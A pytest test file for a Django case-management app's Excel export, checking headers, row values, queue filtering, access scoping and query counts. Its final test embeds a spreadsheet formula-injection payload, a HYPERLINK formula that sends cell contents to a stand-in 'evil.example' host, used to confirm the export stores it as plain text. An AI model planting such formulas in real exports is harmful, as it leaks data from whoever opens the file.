"""The Excel export: it opens with openpyxl, carries the headers, and holds exactly the filtered rows
the user may see — every page of them."""

import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from envgrid.cases import services
from envgrid.cases.exports import export_columns
from envgrid.cases.models import CaseCategory
from envgrid.core.spreadsheets import XLSX_CONTENT_TYPE

pytestmark = pytest.mark.django_db


def workbook_rows(response) -> list[tuple]:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="cases-')
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    return list(sheet.iter_rows(values_only=True))


def dispatch(case, users):
    case = services.case_accept(case=case, actor=users["dispatcher"])
    return services.case_dispatch(case=case, actor=users["dispatcher"])


def test_export_has_the_headers_and_every_filtered_row_beyond_one_page(make_case, users, login):
    cases = [make_case(title=f"烟囱{i}") for i in range(53)]
    make_case(title="秸秆", category=CaseCategory.objects.get(code="agricultural.straw"))

    response = login(users["dispatcher"]).get(
        reverse("case-export"), {"queue": "all", "category": cases[0].category_id}
    )
    rows = workbook_rows(response)

    assert list(rows[0]) == [header for header, _width in export_columns()]
    assert sorted(row[0] for row in rows[1:]) == sorted(c.number for c in cases)


def test_export_rows_carry_the_cases_values(make_case, users, login, grid_of_member):
    case = dispatch(make_case(address="工业路1号"), users)

    rows = workbook_rows(login(users["dispatcher"]).get(reverse("case-export"), {"queue": "all"}))
    row = dict(zip(rows[0], rows[1], strict=True))
    headers = [h for h, _w in export_columns()]

    assert row[headers[0]] == case.number
    assert row[headers[1]] == case.title
    assert row[headers[5]] == "工业源 / 废气超标排放"
    assert row[headers[7]] == f"{grid_of_member.code} {grid_of_member.name}"
    assert row[headers[8]] == "工业路1号"
    assert row[headers[11]] == "生态环境分局"
    local_due = timezone.localtime(case.due_at).replace(tzinfo=None)
    assert abs((row[headers[12]] - local_due).total_seconds()) < 1
    assert row[headers[16]].date() == timezone.localdate(case.created_at)


def test_export_follows_the_queue_the_page_shows(make_case, users, login):
    waiting = make_case()
    dispatch(make_case(), users)

    rows = workbook_rows(login(users["dispatcher"]).get(reverse("case-export"), {"queue": "reported"}))

    assert [row[0] for row in rows[1:]] == [waiting.number]


def test_export_holds_only_what_the_user_may_see(make_case, users, login):
    ours = dispatch(make_case(), users)
    make_case()  # reported, not dispatched: the ecology bureau does not see it yet

    ecology = workbook_rows(login(users["unit_staff"]).get(reverse("case-export"), {"queue": "all"}))
    housing = workbook_rows(login(users["housing_staff"]).get(reverse("case-export"), {"queue": "all"}))

    assert [row[0] for row in ecology[1:]] == [ours.number]
    assert housing[1:] == []
    assert ours.number not in str(housing)


def test_export_queries_do_not_grow_with_the_rows(make_case, users, login):
    for _ in range(3):
        dispatch(make_case(), users)
    client = login(users["unit_staff"])

    with CaptureQueriesContext(connection) as few:
        client.get(reverse("case-export"), {"queue": "all"})
    for _ in range(30):
        dispatch(make_case(), users)
    with CaptureQueriesContext(connection) as many:
        client.get(reverse("case-export"), {"queue": "all"})

    assert len(many) == len(few)


def test_a_description_that_looks_like_a_formula_is_exported_as_text(make_case, users, login):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    case = dispatch(make_case(title="+1 冒黄烟", description=formula), users)

    response = login(users["dispatcher"]).get(reverse("case-export"), {"queue": "all"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.number)
    description = row[headers.index(export_columns()[18][0])]
    title = row[headers.index(export_columns()[1][0])]

    assert (description.value, description.data_type) == (formula, "s")
    assert (title.value, title.data_type) == ("+1 冒黄烟", "s")
